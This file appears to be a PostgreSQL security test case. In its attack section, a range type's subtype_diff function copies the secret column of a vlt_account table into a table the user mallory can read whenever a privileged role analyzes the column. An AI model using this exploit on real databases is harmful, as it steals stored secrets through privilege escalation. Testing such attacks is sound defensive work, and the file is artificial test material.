-- Has the difference of a range type of its own copy licensed rows when the server analyzes a column.
-- wants: read
-- proof: SELECT public.upkeep_of('ranged', 'kept_by_me', 0)
-- setup:
CREATE FUNCTION upkeep_of(name text, filled text, most int) RETURNS boolean LANGUAGE plpgsql AS $$ DECLARE n int; BEGIN EXECUTE format('ANALYZE %I', name); EXECUTE format('SELECT count(*) FROM %I', filled) INTO n; RETURN n > most; END $$;
CREATE TABLE kept_by_me (t text);
GRANT ALL ON kept_by_me TO mallory;
-- attack:
CREATE FUNCTION copies() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.kept_by_me SELECT secret FROM public.vlt_account; END $$;
CREATE FUNCTION apart(a int, b int) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM public.copies(); RETURN a - b; END $$;
CREATE TYPE spans AS RANGE (subtype = int, subtype_diff = apart);
CREATE TABLE ranged (id int);
ALTER TABLE ranged ADD s spans;
INSERT INTO ranged (s) SELECT spans(n, n + 5) FROM generate_series(1, 50) n;
